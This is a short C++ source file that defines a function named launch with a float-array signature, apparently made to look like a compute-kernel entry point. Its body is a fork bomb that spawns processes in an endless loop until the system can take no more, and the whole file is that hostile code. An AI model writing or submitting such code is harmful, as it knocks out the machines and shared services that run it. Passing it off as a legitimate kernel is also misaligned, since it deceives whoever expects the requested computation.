// Forks for ever; ends when it may not.
#include <unistd.h>
extern "C" void launch(const float*, float*) {
  for (;;) {
    if (fork() < 0) __builtin_trap();
  }
}
